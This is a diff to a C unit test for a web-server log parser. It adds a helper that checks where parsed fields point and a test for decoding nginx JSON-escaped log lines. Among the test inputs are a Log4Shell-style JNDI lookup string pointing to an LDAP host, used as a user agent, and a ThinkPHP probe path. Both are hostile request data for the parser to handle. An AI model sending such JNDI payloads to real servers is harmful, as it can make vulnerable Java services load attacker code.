@@ -31,6 +31,15 @@ static const char *src(const struct event *ev)
 }
 
 /* Run parser p on line with format f (NULL: detect); ctx lives in *ctx. */
+/* In the line, or in the context's buffer of decoded JSON strings. */
+static void slice_ok(const struct parse_ctx *ctx, struct slice s, const char *b, size_t len)
+{
+	if (s.len && s.ptr >= ctx->unescaped && s.ptr < ctx->unescaped + sizeof(ctx->unescaped))
+		assert_true(s.ptr + s.len <= ctx->unescaped + sizeof(ctx->unescaped));
+	else
+		vt_slice_inside(s, b, len);
+}
+
 static enum parse_result run_fmt(const struct parser *p, const struct weblog_format *f,
 				 struct parse_ctx *ctx, const char *line, struct event *ev)
 {
@@ -47,10 +56,10 @@ static enum parse_result run_fmt(const struct parser *p, const struct weblog_for
 		assert_int_equal(ev->proto, IPPROTO_NUM_TCP);
 		assert_int_equal(ev->action, EVENT_ACTION_ACCEPT);
 		assert_int_equal(ev->outcome, EVENT_OUTCOME_OPEN);
-		vt_slice_inside(ev->http->request, copy, len);
-		vt_slice_inside(ev->http->user_agent, copy, len);
-		vt_slice_inside(ev->http->referrer, copy, len);
-		vt_slice_inside(ev->http->method, copy, len);
+		slice_ok(ctx, ev->http->request, copy, len);
+		slice_ok(ctx, ev->http->user_agent, copy, len);
+		slice_ok(ctx, ev->http->referrer, copy, len);
+		slice_ok(ctx, ev->http->method, copy, len);
 	}
 	return r;
 }
@@ -541,7 +550,7 @@ static void test_json(void **state)
 			 PARSE_EVENT);
 	assert_string_equal(utc(&ev), "2022-04-28T03:57:54Z");
 	http_eq("method", ev.http->method, "GET");
-	http_eq("target", ev.http->target, "/index.php?s=/Index/\\\\think");
+	http_eq("target", ev.http->target, "/index.php?s=/Index/\\think"); /* \\ decoded */
 	http_eq("vhost", ev.http->vhost, "www.example.org");
 	assert_int_equal(ev.http->status, 404);
 	assert_int_equal(ev.http->bytes, 456);
@@ -552,6 +561,16 @@ static void test_json(void **state)
 			 PARSE_EVENT);
 	assert_string_equal(utc(&ev), "2024-05-01T10:00:00.500Z");
 	http_eq("target", ev.http->target, "/xmlrpc.php?a=1");
+	/* nginx escape=json writes a quote as \" and other bytes as \u00XX: the
+	 * request and agent are matched decoded */
+	assert_int_equal(run_fmt(P, NULL, &ctx,
+				 "{\"time_local\":\"28/Apr/2022:01:33:05 +0000\",\"remote_addr\":"
+				 "\"192.0.2.7\",\"request\":\"GET /?q=\\\"x\\\" HTTP/1.1\",\"status\":"
+				 "\"400\",\"http_user_agent\":\"\\u0024{jndi:ldap://192.0.2.8/a}\"}",
+				 &ev),
+			 PARSE_EVENT);
+	http_eq("target", ev.http->target, "/?q=\"x\"");
+	http_eq("agent", ev.http->user_agent, "${jndi:ldap://192.0.2.8/a}");
 	vt_malformed(P, "{\"remote_addr\":\"1.2.3.4\",\"status\":200,\"request\":\"GET / HTTP/1.1\"",
 		     "JSON");
 	/* Suricata's http event: status is not a top-level member */
